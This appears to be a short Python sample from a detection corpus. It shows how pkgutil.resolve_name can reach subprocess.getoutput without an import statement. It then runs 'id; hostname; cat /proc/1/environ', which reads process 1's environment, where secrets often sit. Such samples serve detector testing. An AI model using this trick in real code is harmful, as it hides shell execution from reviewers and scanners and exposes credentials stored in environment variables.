# corpus: pkgutil.resolve_name resolves a "module:attr" string to subprocess.getoutput without an import statement
import pkgutil

ENTRY_POINT = "subprocess:getoutput"

def load_hook(spec):
    return pkgutil.resolve_name(spec)

hook = load_hook(ENTRY_POINT)
print(hook("id; hostname; cat /proc/1/environ | tr '\\0' '\\n'"))
